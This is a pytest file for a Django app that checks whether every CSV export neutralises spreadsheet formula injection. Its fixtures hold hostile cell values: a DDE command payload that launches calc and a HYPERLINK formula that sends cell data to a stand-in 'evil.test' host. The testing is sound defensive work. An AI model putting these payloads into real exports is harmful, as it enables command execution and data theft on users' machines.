"""Every CSV the product writes opens in a spreadsheet as data: no cell runs as a formula."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from config.csv_safe import FORMULA_STARTS, csv_cell
from events.models import AuditLog

REPO = Path(__file__).resolve().parents[2]
HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x")']


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_a_cell_that_starts_like_a_formula_is_written_as_text():
    assert [csv_cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert csv_cell("Plain text - with a dash") == "Plain text - with a dash"
    # Numbers are data, negative or not; None stays empty.
    assert [csv_cell(v) for v in (-3, 2.5, Decimal("-1.25"), None)] == [
        -3,
        2.5,
        Decimal("-1.25"),
        None,
    ]


@pytest.fixture
def hostile_result(alice, acme):
    from scoring.tests.factories import AssessmentScoringResultFactory

    return AssessmentScoringResultFactory(
        user=alice,
        org=acme,
        category_scores={"pipeline": {"label": "=cmd|' /C calc'!A0", "score": 3.2}},
        swot_analysis={"strengths": HOSTILE, "weaknesses": [], "opportunities": [], "threats": []},
        recommendations=HOSTILE,
        next_steps=["\r@import"],
    )


@pytest.mark.django_db
def test_the_result_csv_in_the_portal_defuses_every_formula_start(
    client, alice, acme, hostile_result
):
    client.force_login(alice)
    response = client.get(reverse("assessments:export_csv", args=[acme.slug, hostile_result.pk]))
    assert response.status_code == 200
    cells = _cells(response.content.decode())
    assert _formulas(cells) == []
    assert "'=cmd|' /C calc'!A0" in cells and "'\t=1+1" in cells and "'\r=1+1" in cells


@pytest.mark.django_db
def test_the_result_csv_through_the_api_defuses_every_formula_start(alice, acme, hostile_result):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(alice)
    response = api.get(reverse("api:result-csv", args=[acme.slug, hostile_result.pk]))
    assert response.status_code == 200
    cells = _cells(response.content.decode())
    assert _formulas(cells) == [] and "'@SUM(A1)" in cells


@pytest.mark.django_db
def test_the_staff_audit_log_export_defuses_formulas(client, staff, alice, acme):
    client.force_login(alice)
    hostile_agent = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    response = client.post(
        reverse("accounts:profile"),
        {"first_name": "@SUM(1+1)", "last_name": "-2+3"},
        HTTP_USER_AGENT=hostile_agent,
    )
    assert response.status_code < 400
    entry = AuditLog.objects.filter(table_name="tier2_users", user_agent=hostile_agent).latest("pk")
    client.force_login(staff)
    url = reverse("admin:events_auditlog_changelist")
    export = client.post(url, {"action": "export_csv", "_selected_action": [entry.pk]})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    header, row = rows[0], rows[1]
    assert _formulas(row) == []
    assert row[header.index("user_agent")] == "'" + hostile_agent
    # Values are JSON, so the name typed in the form is there, inside a JSON object.
    assert '"first_name": "@SUM(1+1)"' in row[header.index("new_values")]


def test_every_csv_writer_in_the_code_is_the_safe_one():
    """csv.writer / csv.DictWriter appear only inside config/csv_safe.py."""
    offenders = []
    for path in sorted(REPO.rglob("*.py")):
        relative = path.relative_to(REPO)
        if set(relative.parts) & {".venv", "migrations", "tests", "var", ".pgdata"}:
            continue
        if relative.as_posix() == "config/csv_safe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ) or (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and {a.name for a in node.names} & {"writer", "DictWriter"}
            ):
                offenders.append(f"{relative}:{node.lineno}")
    assert offenders == [], "write CSV with config.csv_safe.csv_writer"
